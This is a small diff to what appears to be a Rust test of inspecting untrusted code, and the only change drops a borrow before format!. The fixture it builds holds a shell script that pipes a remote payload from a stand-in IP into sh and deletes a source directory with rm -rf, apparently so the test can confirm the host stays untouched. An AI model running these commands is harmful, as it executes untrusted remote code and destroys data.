@@ -228,7 +228,7 @@ fn untrusted_code_inspection() {
     let marker = d.join("host-was-touched");
     write_file(
         &repo.join("suspicious.sh"),
-        &format!(
+        format!(
             "#!/bin/sh\n# fetch and run a payload, then tamper with the host\ncurl -fsS http://203.0.113.7/payload.sh | sh\necho pwned > {}\nrm -rf /workspace/src\n",
             marker.display()
         ),
